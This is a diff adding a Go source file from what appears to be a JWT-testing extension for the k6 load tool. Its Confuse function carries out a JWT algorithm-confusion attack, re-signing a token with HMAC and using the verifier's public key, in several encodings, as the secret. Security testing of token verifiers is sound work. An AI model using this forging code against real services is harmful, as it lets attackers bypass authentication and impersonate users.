@@ -0,0 +1,177 @@
+// MIT License
+//
+// Copyright (c) 2021 Iván Szkiba
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package tamper
+
+import (
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/hmac"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/sha512"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"hash"
+	"strings"
+
+	"github.com/go-jose/go-jose/v4"
+	"github.com/szkiba/xk6-jose/jwk"
+)
+
+var ErrUnsupportedEncoding = errors.New("unsupported key encoding")
+
+const (
+	encodingPEM   = "pem"
+	encodingPKCS1 = "pkcs1"
+	encodingDER   = "der"
+	encodingRaw   = "raw"
+	encodingJWK   = "jwk"
+)
+
+type ConfusionOptions struct {
+	Alg      string `js:"alg"`
+	Encoding string `js:"encoding"`
+}
+
+// Confuse re-signs the token with HMAC using the encoded public key as secret (algorithm confusion attack).
+func (m *Module) Confuse(token string, key *jose.JSONWebKey, options *ConfusionOptions) (string, error) {
+	if options == nil {
+		options = &ConfusionOptions{}
+	}
+
+	segments := strings.Split(token, ".")
+	if len(segments) != 3 {
+		return "", fmt.Errorf("%w: not a compact JWS", ErrInvalidToken)
+	}
+
+	secret, err := publicKeyBytes(key, options.Encoding)
+	if err != nil {
+		return "", err
+	}
+
+	alg := options.Alg
+	if alg == "" {
+		alg, err = hmacAlgorithm(segments[0])
+		if err != nil {
+			return "", err
+		}
+	}
+
+	var fn func() hash.Hash
+
+	switch alg {
+	case string(jose.HS256):
+		fn = sha256.New
+	case string(jose.HS384):
+		fn = sha512.New384
+	case string(jose.HS512):
+		fn = sha512.New
+	default:
+		return "", fmt.Errorf("%w: %s", jwk.ErrUnsupportedAlgorithm, alg)
+	}
+
+	signed, err := replaceJSON(token, 0, map[string]interface{}{"alg": alg})
+	if err != nil {
+		return "", err
+	}
+
+	segments = strings.Split(signed, ".")
+
+	mac := hmac.New(fn, secret)
+	mac.Write([]byte(segments[0] + "." + segments[1]))
+
+	return segments[0] + "." + segments[1] + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
+}
+
+// hmacAlgorithm returns HMAC algorithm with the hash size of the original alg (HS256 for EdDSA).
+func hmacAlgorithm(header string) (string, error) {
+	raw, err := base64.RawURLEncoding.DecodeString(header)
+	if err != nil {
+		return "", fmt.Errorf("%w: %s", ErrInvalidToken, err.Error())
+	}
+
+	hdr := struct {
+		Alg string `json:"alg"`
+	}{}
+
+	if err := json.Unmarshal(raw, &hdr); err != nil {
+		return "", fmt.Errorf("%w: %s", ErrInvalidToken, err.Error())
+	}
+
+	switch {
+	case strings.HasSuffix(hdr.Alg, "384"):
+		return string(jose.HS384), nil
+	case strings.HasSuffix(hdr.Alg, "512"):
+		return string(jose.HS512), nil
+	}
+
+	return string(jose.HS256), nil
+}
+
+// publicKeyBytes returns the public key in the encoding a vulnerable verifier may use as HMAC secret.
+func publicKeyBytes(key *jose.JSONWebKey, encoding string) ([]byte, error) {
+	if key == nil {
+		return nil, jwk.ErrUnsupportedKey
+	}
+
+	pub := key.Public()
+
+	switch encoding {
+	case "", encodingPEM, encodingDER:
+		der, err := x509.MarshalPKIXPublicKey(pub.Key)
+		if err != nil {
+			return nil, fmt.Errorf("%w: %s", jwk.ErrUnsupportedKey, err.Error())
+		}
+
+		if encoding == encodingDER {
+			return der, nil
+		}
+
+		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
+	case encodingPKCS1:
+		rsaKey, ok := pub.Key.(*rsa.PublicKey)
+		if !ok {
+			return nil, fmt.Errorf("%w: %s requires RSA key", ErrUnsupportedEncoding, encoding)
+		}
+
+		return pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rsaKey)}), nil
+	case encodingRaw:
+		switch k := pub.Key.(type) {
+		case *ecdsa.PublicKey:
+			return elliptic.Marshal(k.Curve, k.X, k.Y), nil
+		case ed25519.PublicKey:
+			return []byte(k), nil
+		}
+
+		return nil, fmt.Errorf("%w: %s requires EC or OKP key", ErrUnsupportedEncoding, encoding)
+	case encodingJWK:
+		return pub.MarshalJSON()
+	}
+
+	return nil, fmt.Errorf("%w: %s", ErrUnsupportedEncoding, encoding)
+}